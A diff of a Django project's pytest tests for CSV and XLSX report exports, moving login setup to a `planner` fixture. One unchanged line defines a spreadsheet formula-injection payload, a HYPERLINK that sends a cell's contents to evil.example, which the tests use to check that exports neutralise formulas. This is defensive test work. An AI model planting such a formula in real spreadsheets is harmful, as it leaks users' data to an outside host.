@@ -15,7 +15,7 @@ from projects import spreadsheets
 from projects.choices import ProjectStatus
 from reports.views import common
 from tests.factories import AgencyFactory, EvaluationFactory, ProgressReportFactory, ProjectFactory
-from tests.reports.evaluation_setup import make_planner, project_behind_plan
+from tests.reports.evaluation_setup import project_behind_plan
 
 ATTACK = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
 # Each begins a formula in Excel, LibreOffice or Google Sheets.
@@ -96,8 +96,8 @@ def _get(client, url, params, export_format):
 
 
 @pytest.mark.parametrize(("url", "params"), EXPORTS)
-def test_csv_exports_neutralise_formulas_and_start_with_a_bom(client, attacked, url, params):
-    client.force_login(make_planner())
+def test_csv_exports_neutralise_formulas_and_start_with_a_bom(client, attacked, url, params, planner):
+    client.force_login(planner)
     response = _get(client, url, params, "csv")
     assert response.content.startswith(b"\xef\xbb\xbf")
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
@@ -107,8 +107,8 @@ def test_csv_exports_neutralise_formulas_and_start_with_a_bom(client, attacked, 
 
 
 @pytest.mark.parametrize(("url", "params"), EXPORTS)
-def test_xlsx_exports_hold_no_formula_cells(client, attacked, url, params):
-    client.force_login(make_planner())
+def test_xlsx_exports_hold_no_formula_cells(client, attacked, url, params, planner):
+    client.force_login(planner)
     response = _get(client, url, params, "xlsx")
     sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
     cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
@@ -121,8 +121,8 @@ def test_xlsx_exports_hold_no_formula_cells(client, attacked, url, params):
     assert response["Content-Disposition"].endswith('-2566-02-27.xlsx"') or url == EXPORTS[0][0]
 
 
-def test_quarter_xlsx_formats_baht_percent_and_dates(client, attacked):
-    client.force_login(make_planner())
+def test_quarter_xlsx_formats_baht_percent_and_dates(client, attacked, planner):
+    client.force_login(planner)
     response = _get(client, *EXPORTS[1], "xlsx")
     sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
     header = [cell.value for cell in sheet[1]]
@@ -135,9 +135,9 @@ def test_quarter_xlsx_formats_baht_percent_and_dates(client, attacked):
 
 
 @pytest.mark.parametrize(("url", "params"), EXPORTS)
-def test_a_format_we_do_not_write_shows_the_page(client, attacked, url, params):
+def test_a_format_we_do_not_write_shows_the_page(client, attacked, url, params, planner):
     """django-tables2's own `render_to_response` asks `TableSpreadsheet.is_valid_format`: `pdf` is no download."""
-    client.force_login(make_planner())
+    client.force_login(planner)
     response = client.get(url, {k: v.format("pdf") for k, v in params.items()})
     assert response.status_code == 200
     assert response["Content-Type"].startswith("text/html")
